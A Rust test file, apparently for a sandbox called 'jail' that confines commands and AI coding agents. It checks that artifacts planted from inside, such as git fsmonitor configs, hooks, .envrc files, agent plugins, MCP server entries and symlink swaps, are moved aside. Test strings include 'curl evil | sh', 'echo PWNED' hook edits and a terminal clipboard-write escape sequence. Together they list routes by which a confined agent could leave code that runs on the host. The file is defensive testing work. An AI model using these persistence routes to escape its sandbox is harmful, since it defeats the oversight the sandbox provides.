//! Nothing a jailed command writes under a writable path may run on the host later: what it
//! plants (protected names at any depth, repositories by their layout, submodule git
//! directories) is moved aside after the run, also when it takes the permissions away from the
//! directories on the way, and jail's warnings never carry its escape sequences.
//!
//! Each test plants from inside (shell, python, real git), checks from the host that nothing is
//! left where the host would run it, and runs the same planting without jail as its control, so
//! that it can fail.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use common::{Fixture, Layer, Who, full_level_or_skip, users};

/// The layer sets every planting test runs with: all of them, and the fallback without the mount
/// view (Docker's default profile), where the quarantine is all that stands.
const MODES: &[&[Layer]] = &[&[], &[Layer::Mount]];

/// Runs `script` under `--rw repo` (plus `flags`) as the fixture's user.
fn plant(fx: &Fixture, flags: &[&str], script: &str, disabled: &[Layer]) -> common::Run {
    let repo = fx.p("repo");
    let mut args = vec!["--rw", repo.as_str(), "--cwd", repo.as_str()];
    args.extend(flags);
    args.extend(["--", "/bin/sh", "-c", script]);
    fx.jail_with(&args, disabled, &[])
}

/// The same script without jail: the control that shows the check can fail.
fn plant_bare(fx: &Fixture, script: &str) {
    let out = fx
        .command("/bin/sh".as_ref(), &["-c", script])
        .current_dir(&fx.repo)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Which of `paths` (relative to the project) still exist.
fn left(fx: &Fixture, paths: &[&str]) -> Vec<String> {
    paths
        .iter()
        .filter(|p| std::fs::symlink_metadata(fx.repo.join(p)).is_ok())
        .map(|p| p.to_string())
        .collect()
}

/// Every path under the project whose name holds `.jail-quarantine-`.
fn quarantined(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let _ = std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755));
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.contains(".jail-quarantine-") {
                out.push(name);
            } else if e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(e.path());
            }
        }
    }
    out
}

fn assert_all_moved(fx: &Fixture, run: &common::Run, planted: &[&str], what: &str) {
    let who = fx.who;
    assert_eq!(run.code, Some(0), "{what} as {who:?}: {}", run.describe());
    assert_eq!(
        left(fx, planted),
        Vec::<String>::new(),
        "{what} as {who:?}: left where the host would run it\n{}",
        run.describe()
    );
    for p in planted {
        assert!(
            run.stderr.contains(p),
            "{what} as {who:?}: {p} not named\n{}",
            run.stderr
        );
    }
}

#[test]
fn protected_names_planted_in_nested_projects_are_moved_aside() {
    if !full_level_or_skip("planted-depth") {
        return;
    }
    let planted = [
        "app/.envrc",
        "app/.claude",
        "app/.husky",
        "a/b/c/d/e/f/g/h/.vscode",
        "node_modules/dep/.mcp.json",
        "tools/.cargo/config.toml",
    ];
    let script = "mkdir -p app/.claude app/.husky a/b/c/d/e/f/g/h/.vscode node_modules/dep && \
        echo 'curl evil | sh' > app/.envrc && \
        echo '{\"hooks\":{}}' > app/.claude/settings.json && \
        printf '#!/bin/sh\\nid\\n' > app/.husky/pre-commit && \
        echo '{\"tasks\":[]}' > a/b/c/d/e/f/g/h/.vscode/tasks.json && \
        echo '{}' > node_modules/dep/.mcp.json && \
        python3 -c \"import os; os.makedirs('tools/.cargo'); open('tools/.cargo/config.toml','w').write('[build]\\nrustc-wrapper=\\'/tmp/x\\'\\n')\" && \
        echo ok > app/main.rs";
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "depth");
            let run = plant(&fx, &[], script, disabled);
            assert_all_moved(&fx, &run, &planted, &format!("depth {disabled:?}"));
            assert!(fx.repo.join("app/main.rs").exists(), "plain files stay");
            assert_eq!(quarantined(&fx.repo).len(), planted.len());
        }
        let fx = Fixture::new(who, "depth-bare");
        plant_bare(&fx, script);
        assert_eq!(left(&fx, &planted).len(), planted.len(), "control");
    }
}

#[test]
fn every_protected_name_is_moved_aside_when_created() {
    // The whole list, one nested project deep: a name the list holds must not survive a run.
    if !full_level_or_skip("planted-list") {
        return;
    }
    let mut paths = Vec::new();
    for p in jail::protect::PROTECTED {
        let pattern = p.pattern.replace('*', "x");
        // .git/* entries need a repository: a new .git is itself moved aside whole.
        if pattern.starts_with(".git/") {
            continue;
        }
        paths.push(format!("nested/{pattern}"));
    }
    let script: String = paths
        .iter()
        .map(|p| {
            let parent = Path::new(p).parent().unwrap().display().to_string();
            format!("mkdir -p '{parent}' && echo planted > '{p}' && ")
        })
        .collect::<String>()
        + "true";
    let rels: Vec<&str> = paths.iter().map(String::as_str).collect();
    for who in users() {
        let fx = Fixture::new(who, "list");
        let run = plant(&fx, &[], &script, &[]);
        assert_all_moved(&fx, &run, &rels, "the list");
        let fx = Fixture::new(who, "list-bare");
        plant_bare(&fx, &script);
        assert_eq!(left(&fx, &rels).len(), rels.len(), "control");
    }
}

/// A git repository in the fixture's project, made by the fixture's user.
fn git_project(fx: &Fixture) {
    common::git(fx, &["init", "-q"]);
    common::git(
        fx,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "i",
        ],
    );
}

#[test]
fn repositories_are_recognised_by_layout_and_their_fsmonitor_never_runs() {
    // git takes any directory with HEAD, objects/ and refs/ as a repository, whatever its name;
    // its config's core.fsmonitor runs on the host's next git status there.
    if !full_level_or_skip("planted-bare") {
        return;
    }
    let planted = [
        "sub/vendor/lib.git",
        "sub/tools/cache",
        ".git/modules/lib/foo",
        ".git/hooks/post-checkout",
    ];
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "bare");
            git_project(&fx);
            let marker = fx.dir.join("fsmonitor-ran");
            let monitor = fx.dir.join("monitor.sh");
            std::fs::write(&monitor, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
            std::fs::set_permissions(&monitor, std::fs::Permissions::from_mode(0o755)).unwrap();
            fx.give_to(who);
            let script = format!(
                "mkdir -p sub/vendor && git init -q --bare sub/vendor/lib.git && git -C sub/vendor/lib.git config core.fsmonitor {m} && \
                 git -C sub/vendor/lib.git config core.bare false && git -C sub/vendor/lib.git config core.worktree .. && \
                 mkdir -p sub/tools && git init -q --bare sub/tools/cache && \
                 git -C sub/tools/cache config core.fsmonitor {m} && git -C sub/tools/cache config core.bare false && \
                 git -C sub/tools/cache config core.worktree .. && \
                 mkdir -p .git/modules/lib/foo/objects .git/modules/lib/foo/refs .git/modules/lib/foo/hooks && \
                 echo 'ref: refs/heads/main' > .git/modules/lib/foo/HEAD && \
                 printf '[core]\\n\\tfsmonitor = {m}\\n' > .git/modules/lib/foo/config && \
                 mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch {mk}\\n' > .git/hooks/post-checkout",
                m = monitor.display(),
                mk = marker.display(),
            );
            let run = plant(&fx, &[], &script, disabled);
            if disabled.is_empty() {
                // With the mount view, .git/hooks is read-only from the start.
                assert!(
                    !fx.repo.join(".git/hooks/post-checkout").exists(),
                    "{who:?}: {}",
                    run.describe()
                );
            }
            assert_eq!(
                left(&fx, &planted),
                Vec::<String>::new(),
                "{who:?} {disabled:?}: {}",
                run.describe()
            );
            for dir in ["sub/vendor/lib.git", "sub/tools/cache"] {
                assert!(
                    run.stderr.contains(dir),
                    "{who:?}: {dir} not named\n{}",
                    run.stderr
                );
            }
            // The host's git in the directories where the repositories were: nothing runs.
            for dir in [
                "sub/vendor/lib.git",
                "sub/tools/cache",
                "sub/vendor",
                "sub/tools",
            ] {
                let _ = fx
                    .command("git".as_ref(), &["status"])
                    .current_dir(fx.repo.join(dir))
                    .env("GIT_CEILING_DIRECTORIES", fx.repo.display().to_string())
                    .output();
            }
            assert!(
                !marker.exists(),
                "{who:?} {disabled:?}: a planted fsmonitor ran"
            );
        }
        // Control: planted without jail, the host's git runs the fsmonitor.
        let fx = Fixture::new(who, "bare-ctl");
        let marker = fx.dir.join("fsmonitor-ran");
        let monitor = fx.dir.join("monitor.sh");
        std::fs::write(&monitor, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
        std::fs::set_permissions(&monitor, std::fs::Permissions::from_mode(0o755)).unwrap();
        fx.give_to(who);
        plant_bare(
            &fx,
            &format!(
                "mkdir -p sub/vendor && git init -q --bare sub/vendor/lib.git && git -C sub/vendor/lib.git config core.fsmonitor {} && \
                 git -C sub/vendor/lib.git config core.bare false && git -C sub/vendor/lib.git config core.worktree ..",
                monitor.display()
            ),
        );
        let _ = fx
            .command("git".as_ref(), &["status"])
            .current_dir(fx.repo.join("sub/vendor/lib.git"))
            .output();
        assert!(
            marker.exists(),
            "control: the fsmonitor should run without jail"
        );
    }
}

#[test]
fn taking_the_permissions_away_does_not_keep_a_planted_entry_in_place() {
    // As the owner of those directories, the supervisor adds back what the move needs and puts
    // the modes back after.
    if !full_level_or_skip("planted-chmod") {
        return;
    }
    let planted = ["app/.envrc", ".envrc", "locked/inner/.mcp.json"];
    let script = "mkdir -p app locked/inner && echo x > app/.envrc && echo x > .envrc && \
        echo '{}' > locked/inner/.mcp.json && chmod 555 app . && chmod 000 locked";
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "chmod");
            let run = plant(&fx, &[], script, disabled);
            let mode = |p: &str| {
                std::fs::metadata(fx.repo.join(p))
                    .unwrap()
                    .permissions()
                    .mode()
                    & 0o777
            };
            assert_eq!(mode(""), 0o555, "{who:?}: the root's mode is the command's");
            assert_eq!(mode("app"), 0o555);
            assert_eq!(mode("locked"), 0o000);
            std::fs::set_permissions(
                fx.repo.join("locked"),
                std::fs::Permissions::from_mode(0o755),
            )
            .unwrap();
            assert_all_moved(&fx, &run, &planted, &format!("chmod {disabled:?}"));
            for d in ["", "app"] {
                std::fs::set_permissions(fx.repo.join(d), std::fs::Permissions::from_mode(0o755))
                    .unwrap();
            }
        }
    }
}

#[test]
fn a_tree_deeper_than_the_walk_is_moved_aside_where_the_walk_stopped() {
    // The walk lists 128 levels: a directory below that the command created is moved aside
    // whole, since what it holds is unknown; a tree that deep at the start refuses the run.
    if !full_level_or_skip("planted-deep") {
        return;
    }
    let deep: String = (0..140).map(|_| "d/").collect();
    for who in users() {
        let fx = Fixture::new(who, "deep");
        let script = format!("mkdir -p {deep} && echo x > {deep}.envrc");
        let run = plant(&fx, &[], &script, &[]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        assert!(
            !fx.repo.join(&deep).join(".envrc").exists(),
            "{who:?}: {}",
            run.describe()
        );
        assert!(run.stderr.contains("cannot list"), "{}", run.stderr);
        // Now the tree is that deep before the run: refused before anything runs.
        std::fs::create_dir_all(fx.repo.join(&deep)).unwrap();
        fx.give_to(who);
        let run = plant(&fx, &[], "echo RAN", &[]);
        assert_eq!(run.code, Some(125), "{}", run.describe());
        assert!(
            !run.stdout.contains("RAN") && run.stderr.contains("levels deep"),
            "{}",
            run.describe()
        );
    }
}

#[test]
fn names_with_escape_sequences_reach_the_terminal_escaped() {
    if !full_level_or_skip("planted-escape") {
        return;
    }
    // Erase-line, an OSC 52 clipboard write and a bidirectional override.
    let name = "x\u{1b}[2K\u{1b}]52;c;aGVsbG8=\u{7}\u{202e}.git";
    for who in users() {
        let fx = Fixture::new(who, "escape");
        let dir = format!("{name}/sub");
        let script =
            format!("mkdir -p '{dir}' && touch '{dir}/.envrc' && git init -q --bare '{name}.git2'");
        let run = plant(&fx, &[], &script, &[]);
        assert_eq!(run.code, Some(0), "{}", run.describe());
        assert!(
            !run.stderr.contains('\u{1b}')
                && !run.stderr.contains('\u{7}')
                && !run.stderr.contains('\u{202e}'),
            "{who:?}: raw control characters reached the terminal: {:?}",
            run.stderr
        );
        assert!(
            run.stderr.contains("\\u{1b}[2K"),
            "{who:?}: {:?}",
            run.stderr
        );
        assert!(!fx.repo.join(&dir).join(".envrc").exists());
    }
}

#[test]
fn a_name_given_exactly_with_rw_is_the_users_to_write() {
    if !full_level_or_skip("planted-exempt") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "exempt");
        std::fs::create_dir_all(fx.repo.join(".vscode")).unwrap();
        fx.give_to(who);
        let vscode = fx.p("repo/.vscode");
        let run = plant(
            &fx,
            &["--rw", &vscode],
            "echo '{}' > .vscode/tasks.json && echo x > .envrc",
            &[],
        );
        assert_eq!(run.code, Some(0), "{}", run.describe());
        assert!(
            fx.repo.join(".vscode/tasks.json").exists(),
            "{}",
            run.describe()
        );
        assert_eq!(left(&fx, &[".envrc"]), Vec::<String>::new());
    }
}

#[test]
fn agent_state_that_carries_code_does_not_survive_a_run() {
    // Each agent profile keeps the agent's state writable; what the agent runs or loads as code
    // at its next start on the host (its .env, plugins, tools, launcher, shell snapshots,
    // configs with MCP commands) is read-only where it exists and moved aside where it appears.
    if !full_level_or_skip("planted-agent-state") {
        return;
    }
    let cases: &[(&str, &[&str])] = &[
        (
            "opencode",
            &[
                ".config/opencode/opencode.jsonc",
                ".config/opencode/plugins/evil.js",
                ".config/opencode/tools/evil.ts",
                ".config/opencode/node_modules/p/index.js",
                ".cache/opencode/node_modules/p/index.js",
                ".config/opencode/config.json",
                ".config/opencode/skills/x/SKILL.md",
                ".local/share/opencode/bin/rg",
                ".cache/opencode/bin/rg",
            ],
        ),
        (
            "claude-code",
            &[
                ".claude/settings.json",
                ".claude/local/claude",
                ".claude/shell-snapshots/snapshot-bash-1.sh",
                ".claude/hooks/pre.sh",
                ".claude/session-env/s1/sessionstart-hook-0.sh",
                ".claude/.config.json",
            ],
        ),
        (
            "codex",
            &[
                ".codex/.env",
                ".codex/config.toml",
                ".codex/skills/x/SKILL.md",
                ".codex/AGENTS.override.md",
                ".codex/memories/memory_summary.md",
            ],
        ),
        (
            "gemini-cli",
            &[
                ".gemini/.env",
                ".gemini/settings.json",
                ".gemini/extensions/x/e.json",
                ".gemini/trustedFolders.json",
            ],
        ),
        ("aider", &[".aider/oauth-keys.env"]),
    ];
    for who in users() {
        for (profile, paths) in cases {
            let fx = Fixture::new(who, "agent-state");
            // One existing file of each kind (read-only from the start), the rest new.
            let existing = fx.home.join(paths[0]);
            std::fs::create_dir_all(existing.parent().unwrap()).unwrap();
            if !existing.exists() {
                std::fs::write(&existing, "users\n").unwrap();
            }
            fx.give_to(who);
            let before = std::fs::read(&existing).unwrap();
            let script: String = paths
                .iter()
                .map(|p| {
                    let p = fx.home.join(p);
                    format!(
                        "mkdir -p '{}'; echo 'planted' >> '{}'; ",
                        p.parent().unwrap().display(),
                        p.display()
                    )
                })
                .collect::<String>()
                + "true";
            let run = fx.jail(&["--profile", profile, "--", "/bin/sh", "-c", &script]);
            assert_eq!(
                run.code,
                Some(0),
                "{profile} as {who:?}: {}",
                run.describe()
            );
            assert_eq!(
                std::fs::read(&existing).unwrap(),
                before,
                "{profile} as {who:?}: {} changed\n{}",
                paths[0],
                run.describe()
            );
            for p in &paths[1..] {
                let text = std::fs::read_to_string(fx.home.join(p)).unwrap_or_default();
                assert!(
                    !text.contains("planted"),
                    "{profile} as {who:?}: {p} was planted and stayed\n{}",
                    run.describe()
                );
            }
        }
        // Control: the same directories writable without the agent profile's rules.
        let fx = Fixture::new(who, "agent-state-ctl");
        let (cfg, cache) = (
            fx.home.join(".config/opencode"),
            fx.home.join(".cache/opencode"),
        );
        std::fs::create_dir_all(&cfg).unwrap();
        std::fs::create_dir_all(&cache).unwrap();
        fx.give_to(who);
        let plugin = cfg.join("plugins/evil.js");
        let script = format!(
            "mkdir -p {0} && echo planted > {1}",
            plugin.parent().unwrap().display(),
            plugin.display()
        );
        let run = fx.jail(&[
            "--rw",
            &cfg.display().to_string(),
            "--",
            "/bin/sh",
            "-c",
            &script,
        ]);
        assert!(run.ok(), "{}", run.describe());
        assert!(
            plugin.exists(),
            "control: without the profile the plugin stays"
        );
    }
}

#[test]
fn no_process_outlives_the_run_to_plant_after_the_check_without_a_pid_namespace() {
    // Without a pid namespace (Docker's default profile) orphans reach jail, the subreaper, one
    // generation at a time: a long chain of processes must still all be dead before the check
    // of what was planted, or the last one writes after it.
    if !full_level_or_skip("planted-survivor") {
        return;
    }
    let a = common::attack_bin().display().to_string();
    for who in users() {
        let fx = Fixture::new(who, "survivor");
        let target = fx.repo.join("sub/.envrc");
        let t = target.display().to_string();
        let repo = fx.p("repo");
        let run = fx.jail_with(
            &["--rw", &repo, "--", &a, "chain", "1100", &t],
            &[Layer::Mount],
            &[],
        );
        std::thread::sleep(std::time::Duration::from_secs(5));
        assert!(
            run.code == Some(0) || run.code == Some(125),
            "{who:?}: {}",
            run.describe()
        );
        assert!(
            !target.exists(),
            "{who:?}: a survivor planted after the run\n{}",
            run.describe()
        );
        // Control: the same helper without jail plants (a short chain: the mechanism is the
        // point here).
        if who != users()[0] {
            continue;
        }
        let status = fx
            .command(common::attack_bin(), &["chain", "50", &t])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.success());
        common::wait_for(
            "control: the chain to plant without jail",
            std::time::Duration::from_secs(60),
            || target.exists(),
        );
        let _ = std::fs::remove_file(&target);
    }
}

#[test]
fn core_hooks_path_is_protected_however_the_config_spells_it_and_at_any_depth() {
    // git reads `[core] hooksPath = x` on one line, comments after the value, any case; the
    // repository may sit deeper than the start-time search or in a directory it skips. Wherever
    // git would run the hooks from, a hook the command edits or adds must not stay.
    if !full_level_or_skip("planted-hookspath") {
        return;
    }
    let configs = [
        ("one-line", "[core] hooksPath = .hooks\n"),
        ("comment", "[core]\n\thooksPath = .hooks ; team hooks\n"),
        ("a/b/c/d/e/f/deep", "[core]\n\thooksPath = .hooks\n"),
        ("vendor/dep", "[CORE]\n\tHOOKSPATH = \".hooks\"\n"),
    ];
    for who in users() {
        let fx = Fixture::new(who, "hookspath");
        for (dir, config) in configs {
            let d = fx.repo.join(dir);
            let out = fx
                .command("git".as_ref(), &["init", "-q", &d.display().to_string()])
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .output()
                .unwrap();
            assert!(out.status.success());
            let mut text = std::fs::read_to_string(d.join(".git/config")).unwrap();
            text.push_str(config);
            std::fs::write(d.join(".git/config"), text).unwrap();
            std::fs::create_dir_all(d.join(".hooks")).unwrap();
            std::fs::write(d.join(".hooks/pre-commit"), "#!/bin/sh\n").unwrap();
            std::fs::set_permissions(
                d.join(".hooks/pre-commit"),
                std::fs::Permissions::from_mode(0o755),
            )
            .unwrap();
        }
        fx.give_to(who);
        let script: String = configs
            .iter()
            .map(|(dir, _)| format!("echo 'echo PWNED' >> {dir}/.hooks/pre-commit; echo x > {dir}/.hooks/post-checkout; "))
            .collect();
        let run = plant(&fx, &[], &script, &[]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for (dir, _) in configs {
            let hook = std::fs::read_to_string(fx.repo.join(dir).join(".hooks/pre-commit"))
                .unwrap_or_default();
            assert!(
                !hook.contains("PWNED"),
                "{who:?}: {dir}: the edited hook stayed\n{}",
                run.describe()
            );
            assert!(
                !fx.repo.join(dir).join(".hooks/post-checkout").exists(),
                "{who:?}: {dir}"
            );
        }
    }
}

#[test]
fn a_script_the_agents_protected_settings_name_is_protected_too() {
    // Claude Code's status line (or a hook) may run a script that lives in ~/.claude beside
    // its state: the settings that name it are protected, so is the script.
    if !full_level_or_skip("planted-named-script") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "named-script");
        let claude = fx.home.join(".claude");
        std::fs::create_dir_all(&claude).unwrap();
        std::fs::write(
            claude.join("statusline-command.sh"),
            "#!/bin/bash\necho ok\n",
        )
        .unwrap();
        std::fs::write(
            claude.join("settings.json"),
            "{\"statusLine\":{\"type\":\"command\",\"command\":\"bash ~/.claude/statusline-command.sh\"},\
             \"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"$HOME/.claude/on-stop.sh\"}]}]}}",
        )
        .unwrap();
        fx.give_to(who);
        let script = format!(
            "echo 'echo PWNED' >> {c}/statusline-command.sh; echo 'echo PWNED' > {c}/on-stop.sh; true",
            c = claude.display()
        );
        let run = fx.jail(&["--profile", "claude-code", "--", "/bin/sh", "-c", &script]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for f in ["statusline-command.sh", "on-stop.sh"] {
            let text = std::fs::read_to_string(claude.join(f)).unwrap_or_default();
            assert!(
                !text.contains("PWNED"),
                "{who:?}: {f} stayed\n{}",
                run.describe()
            );
        }
    }
}

#[test]
fn a_symlink_on_the_way_to_a_protected_path_is_moved_aside() {
    // The rules spell paths; a symlink the command puts on the way (a PATH directory swapped
    // for one, a hooks directory or .cargo reached through one) leads git, the shell or cargo
    // somewhere the rules never named.
    if !full_level_or_skip("planted-symlink-way") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "symlink-way");
        git_project(&fx);
        common::git(&fx, &["config", "core.hooksPath", "scripts/hooks"]);
        std::fs::create_dir_all(fx.repo.join("tools/bin")).unwrap();
        std::fs::create_dir_all(fx.repo.join("app")).unwrap();
        fx.give_to(who);
        let path = format!("{}:/usr/bin:/bin", fx.p("repo/tools/bin"));
        let script = "mkdir -p sub/evil/hooks sub/c && echo x > sub/evil/ls && echo x > sub/evil/hooks/pre-commit && \
            mv tools/bin tools/bin.old && ln -s ../sub/evil tools/bin && ln -s sub/evil scripts && \
            echo '[build]' > sub/c/config.toml && ln -s ../sub/c app/.cargo";
        let repo = fx.p("repo");
        let run = fx.jail_with(
            &["--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", script],
            &[],
            &[("PATH", &path)],
        );
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for link in ["tools/bin", "scripts", "app/.cargo"] {
            assert!(
                std::fs::symlink_metadata(fx.repo.join(link)).is_err(),
                "{who:?}: {link} left in place\n{}",
                run.describe()
            );
        }
    }
}

#[test]
fn a_file_a_repository_config_includes_is_protected() {
    if !full_level_or_skip("planted-include") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "include");
        git_project(&fx);
        common::git(&fx, &["config", "include.path", "../project.gitconfig"]);
        std::fs::write(fx.repo.join("project.gitconfig"), "[user]\n\tname = t\n").unwrap();
        fx.give_to(who);
        for disabled in MODES {
            let run = plant(
                &fx,
                &[],
                "printf '[core]\\n\\tfsmonitor = x\\n' >> project.gitconfig; true",
                disabled,
            );
            assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
            let text =
                std::fs::read_to_string(fx.repo.join("project.gitconfig")).unwrap_or_default();
            assert!(
                !text.contains("fsmonitor"),
                "{who:?} {disabled:?}: the include was changed\n{}",
                run.describe()
            );
            common::restore_quarantined(&fx.repo);
            std::fs::write(fx.repo.join("project.gitconfig"), "[user]\n\tname = t\n").unwrap();
        }
    }
}

#[test]
fn without_the_mount_view_a_filesystem_mounted_inside_fails_the_run() {
    // Landlock alone lets the command write into another filesystem mounted in a writable tree,
    // which the walk does not enter: the run cannot be called clean.
    if !full_level_or_skip("planted-submount") {
        return;
    }
    if !common::is_root() {
        eprintln!("skipping planted-submount: mounting a tmpfs needs root");
        return;
    }
    let fx = Fixture::new(Who::User, "submount");
    let mnt = fx.repo.join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    let ok = std::process::Command::new("mount")
        .args([
            "-t",
            "tmpfs",
            "-o",
            "mode=0777",
            "tmpfs",
            &mnt.display().to_string(),
        ])
        .status()
        .unwrap()
        .success();
    assert!(ok, "mount a tmpfs");
    let script = format!("echo evil > {}/.envrc", mnt.display());
    let full = plant(&fx, &[], &script, &[]);
    let fallback = plant(&fx, &[], &script, &[Layer::Mount]);
    let planted = mnt.join(".envrc").exists();
    let _ = std::process::Command::new("umount").arg(&mnt).status();
    assert!(full.code != Some(0) || !planted, "{}", full.describe());
    assert_eq!(fallback.code, Some(125), "{}", fallback.describe());
    assert!(
        fallback.stderr.contains("another filesystem"),
        "{}",
        fallback.stderr
    );
}

#[test]
fn mcp_servers_added_to_the_agents_state_file_do_not_survive_the_run() {
    // Claude Code's .claude.json is state it rewrites all the time, so it stays writable; the
    // MCP servers and allowed tools in it start commands on the host: a run that changes them
    // gets the file moved aside and the version from before put back.
    if !full_level_or_skip("planted-guard") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "guard");
        let state = fx.home.join(".claude/.claude.json");
        std::fs::create_dir_all(state.parent().unwrap()).unwrap();
        let before = "{\"numStartups\": 1, \"projects\": {\"/w\": {\"allowedTools\": []}}}\n";
        std::fs::write(&state, before).unwrap();
        fx.give_to(who);
        // State changes: kept.
        let run = fx.jail(&[
            "--profile",
            "claude-code",
            "--",
            "python3",
            "-c",
            &format!(
                "import json; p='{}'; d=json.load(open(p)); d['numStartups']=2; json.dump(d, open(p,'w'))",
                state.display()
            ),
        ]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        assert!(
            std::fs::read_to_string(&state)
                .unwrap()
                .contains("\"numStartups\": 2")
        );
        // An MCP server, at the top and for a project: moved aside, the old version back.
        for key in [
            "d['mcpServers']={'x':{'command':'sh'}}",
            "d['projects']['/w']['mcpServers']={'x':{'command':'sh'}}",
        ] {
            std::fs::write(&state, before).unwrap();
            let run = fx.jail(&[
                "--profile",
                "claude-code",
                "--",
                "python3",
                "-c",
                &format!(
                    "import json; p='{}'; d=json.load(open(p)); {key}; json.dump(d, open(p,'w'))",
                    state.display()
                ),
            ]);
            assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
            assert_eq!(
                std::fs::read_to_string(&state).unwrap(),
                before,
                "{who:?} {key}: {}",
                run.describe()
            );
            assert!(run.stderr.contains("mcpServers"), "{}", run.stderr);
            common::restore_quarantined(&fx.home);
        }
    }
}

#[test]
fn a_hooks_path_the_users_own_config_names_is_protected_relative_or_included() {
    // git resolves a relative core.hooksPath of ~/.gitconfig against each repository's work
    // tree, and reads the files ~/.gitconfig includes.
    if !full_level_or_skip("planted-global-hooks") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "global-hooks");
        git_project(&fx);
        std::fs::create_dir_all(fx.repo.join("sub/app")).unwrap();
        std::fs::write(
            fx.home.join(".gitconfig"),
            "[core]\n\thooksPath = .hooks\n[include]\n\tpath = ~/.gitconfig.local\n",
        )
        .unwrap();
        std::fs::write(
            fx.home.join(".gitconfig.local"),
            format!(
                "[alias]\n\tx = status\n[core]\n\thooksPath = {}\n",
                fx.p("repo/sub/app/hooks")
            ),
        )
        .unwrap();
        fx.give_to(who);
        let run = plant(
            &fx,
            &[],
            "mkdir -p .hooks sub/app/hooks && echo x > .hooks/pre-commit && echo x > sub/app/hooks/pre-commit",
            &[],
        );
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for hook in [".hooks/pre-commit", "sub/app/hooks/pre-commit"] {
            assert!(
                !fx.repo.join(hook).exists(),
                "{who:?}: {hook} stayed\n{}",
                run.describe()
            );
        }
    }
}

#[test]
fn with_home_writable_what_the_command_leaves_in_its_dot_entries_is_moved_aside() {
    // No list names every file a tool runs from HOME (usercustomize.py, ~/.vim/plugin,
    // ~/.config/tmux, systemd user units…): when a writable tree holds HOME, each dot entry of
    // it — one level into .config, .cache and .local/{share,state,lib} — is one tool's
    // configuration, moved aside when the run changed it.
    if !full_level_or_skip("planted-home") {
        return;
    }
    let planted = [
        ".local/lib/python3.11",
        ".vim",
        ".config/tmux",
        ".local/share/systemd",
        ".bash_aliases",
    ];
    for who in users() {
        let fx = Fixture::new(who, "home");
        let home = fx.home.display().to_string();
        let script = "mkdir -p ~/.local/lib/python3.11/site-packages ~/.vim/plugin ~/.config/tmux \
            ~/.local/share/systemd/user && echo x > ~/.local/lib/python3.11/site-packages/usercustomize.py && \
            echo x > ~/.vim/plugin/x.vim && echo x > ~/.config/tmux/tmux.conf && \
            echo x > ~/.local/share/systemd/user/x.service && echo x > ~/.bash_aliases && \
            mkdir -p ~/notes && echo x > ~/notes/todo.txt";
        let run = fx.jail(&["--rw", &home, "--", "/bin/sh", "-c", script]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for p in planted {
            assert!(
                std::fs::symlink_metadata(fx.home.join(p)).is_err(),
                "{who:?}: {p} stayed\n{}",
                run.describe()
            );
        }
        assert!(
            fx.home.join("notes/todo.txt").exists(),
            "plain files in HOME stay"
        );
    }
}

#[test]
fn relative_hooks_paths_resolve_where_git_runs_the_hooks() {
    // A linked worktree runs hooks from its own root; core.worktree moves the work tree; a
    // writable tree inside a repository still holds the hooks that repository names.
    if !full_level_or_skip("planted-hooks-where") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "hooks-where");
        git_project(&fx);
        common::git(&fx, &["config", "core.hooksPath", "tools/hooks"]);
        common::git(&fx, &["worktree", "add", "-q", "../scratch/wt"]);
        // A second repository whose work tree is elsewhere.
        let other = fx.scratch.join("r3.git");
        let out = fx
            .command(
                "git".as_ref(),
                &["init", "-q", "--bare", &other.display().to_string()],
            )
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::create_dir_all(fx.scratch.join("work3")).unwrap();
        for (k, v) in [
            ("core.bare", "false"),
            ("core.worktree", "../work3"),
            ("core.hooksPath", "hk"),
        ] {
            let out = fx
                .command(
                    "git".as_ref(),
                    &["-C", &other.display().to_string(), "config", k, v],
                )
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{k}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::fs::create_dir_all(fx.scratch.join("work3")).unwrap();
        fx.give_to(who);
        let s = fx.p("scratch");
        let run = fx.jail(&[
            "--rw",
            &s,
            "--",
            "/bin/sh",
            "-c",
